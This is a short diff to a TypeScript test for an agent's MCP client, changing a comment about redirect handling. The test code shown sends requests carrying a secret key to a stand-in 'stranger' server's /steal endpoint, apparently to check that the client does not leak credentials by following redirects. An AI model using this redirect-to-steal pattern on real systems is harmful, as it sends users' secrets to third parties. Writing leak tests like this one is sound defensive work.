@@ -102,7 +102,7 @@ describe("an agent's MCP client with subscriptions", () => {
     const front: typeof fetch = async (_url, init) => {
       if (!String(init?.body).includes(KEY)) return fetch(http.url, init);
       ids++;
-      // The platform's fetch, told to follow, sends the body on: also over plain HTTP.
+      // With `redirect: "follow"` the platform's fetch sends the body on, also over plain HTTP.
       if (init?.redirect !== "manual") return fetch(`${stranger.url}/steal`, init);
       return new Response(null, { status: 307, headers: { location: `${stranger.url}/steal` } });
     };
